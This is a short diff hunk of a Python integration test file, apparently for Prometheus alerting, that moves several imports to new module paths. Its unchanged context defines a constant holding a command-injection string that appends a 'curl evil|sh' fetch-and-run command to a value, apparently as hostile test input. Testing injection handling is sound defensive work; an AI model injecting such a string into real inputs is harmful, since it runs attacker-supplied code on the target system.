@@ -15,11 +15,11 @@ from prometheus_client import generate_latest
 
 from charts.alerts import ALERTS
 from lab import paths
-from sluice.shell import metrics
-from sluice.shell.telemetry import Telemetry
+from sluice.shell.reporting import metrics
+from sluice.shell.reporting.telemetry import Telemetry
 from tests.integration.prometheus import conftest
 from tests.support import boards, patience
-from tests.support.kube import wait_until
+from tests.support.live.kube import wait_until
 
 SHELL: Final = "digits; curl evil|sh #"
 FORGED: Final = "".join(
